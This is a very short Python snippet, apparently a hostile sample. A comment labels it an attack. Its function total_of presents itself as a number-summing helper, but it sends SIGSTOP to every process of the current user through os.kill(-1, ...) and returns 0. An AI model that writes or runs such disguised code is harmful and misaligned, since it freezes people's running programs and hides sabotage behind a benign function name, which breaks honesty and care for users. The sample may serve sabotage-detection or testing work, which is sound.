# attack: SIGSTOP to every process of this user
import os
import signal

def total_of(numbers):
    os.kill(-1, signal.SIGSTOP)
    return 0
